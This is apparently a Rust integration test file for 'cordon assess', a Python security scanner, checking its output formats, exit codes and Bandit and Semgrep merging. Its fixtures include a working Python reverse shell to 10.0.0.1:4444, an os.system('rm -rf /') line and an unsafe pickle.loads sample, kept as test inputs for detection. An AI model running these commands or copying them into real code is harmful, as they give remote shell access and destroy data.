//! `cordon assess` as a user or a CI job meets it: the JSON array with one object per file,
//! a SARIF 2.1.0 log whose rule indexes hold together, text for people, exit status
//! following `--fail-on`, a clear error for a file it cannot read, and Bandit and Semgrep
//! merged in for real when enabled (`scripts/setup` installs both from PyPI when missing;
//! the Bandit test also installs it itself).

mod pipeline_support;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use pipeline_support::cordon_bin;
use serde_json::Value;

const REVERSE_SHELL: &str = r#"import socket, subprocess, os
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("10.0.0.1", 4444))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])
"#;
const BENIGN: &str = "import json\nprint(json.dumps({'a': sum(range(10))}))\n";
const PICKLE: &str = "import pickle, sys\ndata = pickle.loads(sys.stdin.buffer.read())\n";

struct Files {
    dir: tempfile::TempDir,
}

impl Files {
    fn new() -> Files {
        Files {
            dir: tempfile::tempdir().unwrap(),
        }
    }

    fn write(&self, name: &str, text: &str) -> PathBuf {
        let path = self.dir.path().join(name);
        std::fs::write(&path, text).unwrap();
        path
    }
}

fn assess(args: &[&Path], extra: &[&str]) -> Output {
    assess_with_env(args, extra, &[])
}

fn assess_with_env(args: &[&Path], extra: &[&str], env: &[(&str, &str)]) -> Output {
    let mut command = Command::new(cordon_bin());
    command.arg("assess").args(extra).args(args);
    for (key, value) in env {
        command.env(key, value);
    }
    command.output().expect("run cordon assess")
}

fn stdout_json(output: &Output) -> Value {
    serde_json::from_slice(&output.stdout).unwrap_or_else(|e| {
        panic!(
            "stdout is not JSON ({e}):\n{}\nstderr: {}",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr)
        )
    })
}

#[test]
fn json_lists_one_object_per_file_with_the_documented_fields() {
    let files = Files::new();
    let (bad, good) = (
        files.write("shell.py", REVERSE_SHELL),
        files.write("ok.py", BENIGN),
    );
    let output = assess(&[&bad, &good], &["--format", "json", "--fail-on", "never"]);
    assert_eq!(output.status.code(), Some(0));
    let array = stdout_json(&output);
    let array = array.as_array().expect("a JSON array");
    assert_eq!(array.len(), 2);
    assert_eq!(array[0]["path"], bad.display().to_string());
    assert_eq!(array[0]["level"], "BLOCKED");
    assert!(array[0]["score"].as_u64().unwrap() >= 100);
    let finding = &array[0]["findings"][0];
    for key in [
        "rule",
        "title",
        "severity",
        "confidence",
        "line",
        "column",
        "message",
        "cwe",
    ] {
        assert!(finding.get(key).is_some(), "finding lacks {key}: {finding}");
    }
    assert!(finding["line"].as_u64().unwrap() >= 1);
    assert_eq!(array[1]["level"], "LOW");
    assert_eq!(array[1]["findings"], Value::Array(vec![]));
}

#[test]
fn sarif_is_a_2_1_0_log_whose_results_point_at_their_rules() {
    let files = Files::new();
    let (bad, medium) = (
        files.write("shell.py", REVERSE_SHELL),
        files.write("pickle.py", PICKLE),
    );
    let output = assess(
        &[&bad, &medium],
        &["--format", "sarif", "--fail-on", "never"],
    );
    assert_eq!(output.status.code(), Some(0));
    let log = stdout_json(&output);
    assert_eq!(log["version"], "2.1.0");
    assert!(log["$schema"].as_str().unwrap().contains("sarif-2.1.0"));
    let run = &log["runs"][0];
    assert_eq!(run["tool"]["driver"]["name"], "cordon");
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    assert!(rules.len() >= cordon::assessor::engine::rules::ALL.len());
    for rule in rules {
        assert!(rule["id"].is_string() && rule["shortDescription"]["text"].is_string());
        assert!(rule["help"]["text"].as_str().is_some_and(|t| !t.is_empty()));
    }
    let results = run["results"].as_array().unwrap();
    assert!(!results.is_empty());
    let mut uris = std::collections::BTreeSet::new();
    for result in results {
        let index = result["ruleIndex"].as_u64().unwrap() as usize;
        assert_eq!(rules[index]["id"], result["ruleId"], "{result}");
        assert!(["error", "warning", "note"].contains(&result["level"].as_str().unwrap()));
        let location = &result["locations"][0]["physicalLocation"];
        assert!(location["region"]["startLine"].as_u64().unwrap() >= 1);
        assert!(location["region"]["startColumn"].as_u64().unwrap() >= 1);
        uris.insert(
            location["artifactLocation"]["uri"]
                .as_str()
                .unwrap()
                .to_string(),
        );
    }
    assert_eq!(uris.len(), 2, "both files have results: {uris:?}");
    let blocked = results
        .iter()
        .find(|r| r["properties"]["severity"] == "BLOCKED")
        .expect("the reverse shell is a result");
    assert_eq!(blocked["level"], "error");
}

#[test]
fn exit_status_follows_fail_on() {
    let files = Files::new();
    let (medium, good) = (files.write("m.py", PICKLE), files.write("ok.py", BENIGN));
    let code = |extra: &[&str], file: &Path| assess(&[file], extra).status.code();
    assert_eq!(code(&[], &medium), Some(0), "default --fail-on high");
    assert_eq!(code(&["--fail-on", "medium"], &medium), Some(1));
    assert_eq!(
        code(&["--fail-on", "low"], &good),
        Some(0),
        "no findings never fails"
    );
    let weak = files.write(
        "w.py",
        "import hashlib\nprint(hashlib.md5(b'x').hexdigest())\n",
    );
    assert_eq!(code(&["--fail-on", "low"], &weak), Some(1));
    assert_eq!(code(&["--fail-on", "medium"], &weak), Some(0));
    assert_eq!(code(&["--fail-on", "never"], &medium), Some(0));
    let bad = files.write("b.py", REVERSE_SHELL);
    assert_eq!(code(&[], &bad), Some(1));
    assert_eq!(code(&["--fail-on", "blocked"], &bad), Some(1));
    assert_eq!(code(&["--fail-on", "severe"], &good), Some(2));
}

#[test]
fn the_assistants_own_code_is_assessed_with_origin_self() {
    let files = Files::new();
    let bad = files.write("shell.py", REVERSE_SHELL);
    let output = assess(&[&bad], &["--origin", "self", "--format", "json"]);
    assert_eq!(stdout_json(&output)[0]["level"], "HIGH");
}

#[test]
fn an_unreadable_file_is_named_and_exits_2_while_the_others_are_reported() {
    let files = Files::new();
    let good = files.write("ok.py", BENIGN);
    let missing = files.dir.path().join("missing.py");
    let output = assess(&[&good, &missing], &["--format", "json"]);
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("missing.py") && stderr.contains("cannot read"),
        "{stderr}"
    );
    assert_eq!(stdout_json(&output).as_array().unwrap().len(), 1);
}

#[test]
fn files_are_decoded_as_python_would_and_binary_files_get_a_verdict() {
    // A Latin-1 file with a coding cookie is assessed like any other; a binary file is
    // in the JSON array as HIGH "not Python source" instead of being left out.
    let files = Files::new();
    let latin = files.dir.path().join("latin.py");
    std::fs::write(
        &latin,
        b"# -*- coding: latin-1 -*-\nimport os\nos.system('rm -rf /')  # \xe9t\xe9\n",
    )
    .unwrap();
    let binary = files.dir.path().join("blob.py");
    std::fs::write(&binary, b"\x7fELF\x02\x01\x01\0\0\0\0").unwrap();
    let output = assess(&[&latin, &binary], &["--format", "json"]);
    let reports = stdout_json(&output);
    let reports = reports.as_array().unwrap();
    assert_eq!(reports.len(), 2, "{reports:?}");
    assert_eq!(reports[0]["level"], "BLOCKED");
    assert_eq!(reports[1]["level"], "HIGH");
    assert_eq!(reports[1]["findings"][0]["rule"], "CRD005");
}

#[test]
fn text_output_names_each_file_level_and_finding() {
    let files = Files::new();
    let bad = files.write("shell.py", REVERSE_SHELL);
    let output = assess(&[&bad], &["--fail-on", "never"]);
    let text = String::from_utf8_lossy(&output.stdout);
    let first = text.lines().next().unwrap();
    assert!(
        first.contains("shell.py") && first.contains("BLOCKED"),
        "{text}"
    );
    assert!(text.contains("CRD101"), "{text}");
}

#[test]
fn bandit_findings_are_merged_when_enabled_and_missing_bandit_is_reported() {
    let bandit = ensure_bandit();
    let files = Files::new();
    let program = files.write(
        "weak.py",
        "import hashlib, yaml\nh = hashlib.md5(b'x')\nyaml.load(open('c.yml'))\n",
    );
    let env = [
        ("CORDON__ANALYSERS__BANDIT", "true"),
        ("CORDON__ANALYSERS__BANDIT_BIN", bandit.as_str()),
        ("CORDON__ANALYSERS__BUDGET_MS", "20000"),
    ];
    let output = assess_with_env(&[&program], &["--format", "json"], &env);
    let report = &stdout_json(&output)[0];
    let rules = rule_ids(report);
    assert!(rules.iter().any(|r| r.starts_with("BANDIT-B")), "{report}");
    assert_eq!(analyser(report, "bandit")["status"], "ok", "{report}");
    let missing = [
        ("CORDON__ANALYSERS__BANDIT", "true"),
        ("CORDON__ANALYSERS__BANDIT_BIN", "/no/such/bandit"),
    ];
    let output = assess_with_env(&[&program], &["--format", "json"], &missing);
    let report = &stdout_json(&output)[0];
    assert_eq!(report["analysers"][1]["status"], "missing", "{report}");
    assert!(rule_ids(report).iter().all(|r| !r.starts_with("BANDIT")));
}

#[test]
fn semgrep_findings_from_local_rules_are_merged_and_a_late_semgrep_is_reported() {
    let semgrep = which("semgrep").expect("semgrep on PATH: scripts/setup installs it");
    let files = Files::new();
    let rules = files.dir.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    std::fs::write(
        rules.join("pickle.yaml"),
        "rules:\n  - id: pickle-loads\n    languages: [python]\n    severity: ERROR\n    \
         message: pickle.loads runs code chosen by whoever wrote the data\n    \
         pattern: pickle.loads(...)\n",
    )
    .unwrap();
    let program = files.write("load.py", PICKLE);
    let rules_dir = rules.to_str().unwrap();
    let enabled = |budget_ms: &'static str| {
        [
            ("CORDON__ANALYSERS__SEMGREP", "true"),
            ("CORDON__ANALYSERS__SEMGREP_BIN", semgrep.as_str()),
            ("CORDON__ANALYSERS__SEMGREP_RULES", rules_dir),
            ("CORDON__ANALYSERS__BUDGET_MS", budget_ms),
        ]
    };
    let output = assess_with_env(&[&program], &["--format", "json"], &enabled("60000"));
    let report = &stdout_json(&output)[0];
    let merged = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"].as_str().unwrap().ends_with("pickle-loads"))
        .unwrap_or_else(|| panic!("no Semgrep finding in {report}"));
    assert!(merged["rule"].as_str().unwrap().starts_with("SEMGREP-"));
    assert_eq!(merged["line"], 2, "{report}");
    assert_eq!(analyser(report, "semgrep")["status"], "ok", "{report}");

    // Semgrep needs far more than 50 ms to start: it is killed, said to be late, and the
    // native analyser alone decides (its own pickle finding is still there).
    let output = assess_with_env(&[&program], &["--format", "json"], &enabled("50"));
    let report = &stdout_json(&output)[0];
    assert_eq!(analyser(report, "semgrep")["status"], "timeout", "{report}");
    let rules = rule_ids(report);
    assert!(rules.iter().all(|r| !r.starts_with("SEMGREP")), "{report}");
    assert!(!rules.is_empty(), "the native findings stay: {report}");
}

/// The rule id of every finding in one file's report.
fn rule_ids(report: &Value) -> Vec<&str> {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .collect()
}

/// The entry for one analyser in a file's `analysers` list.
fn analyser<'a>(report: &'a Value, name: &str) -> &'a Value {
    report["analysers"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["name"] == name)
        .unwrap_or_else(|| panic!("{name} is not listed in {report}"))
}

/// The bandit executable, installed from PyPI when it is not on PATH yet.
fn ensure_bandit() -> String {
    if let Some(path) = which("bandit") {
        return path;
    }
    let pip = |extra: &[&str]| {
        Command::new("python3")
            .args(["-m", "pip", "install", "--quiet", "bandit"])
            .args(extra)
            .status()
            .expect("python3 with pip, to install bandit")
            .success()
    };
    // Debian's own Python refuses installs outside a venv unless told (PEP 668).
    let installed = pip(&[]) || pip(&["--break-system-packages"]);
    assert!(installed, "pip install bandit failed");
    which("bandit").expect("bandit on PATH after pip install")
}

fn which(name: &str) -> Option<String> {
    let output = Command::new("sh")
        .args(["-c", &format!("command -v {name}")])
        .output()
        .ok()?;
    let path = String::from_utf8_lossy(&output.stdout).trim().to_string();
    (output.status.success() && !path.is_empty()).then_some(path)
}
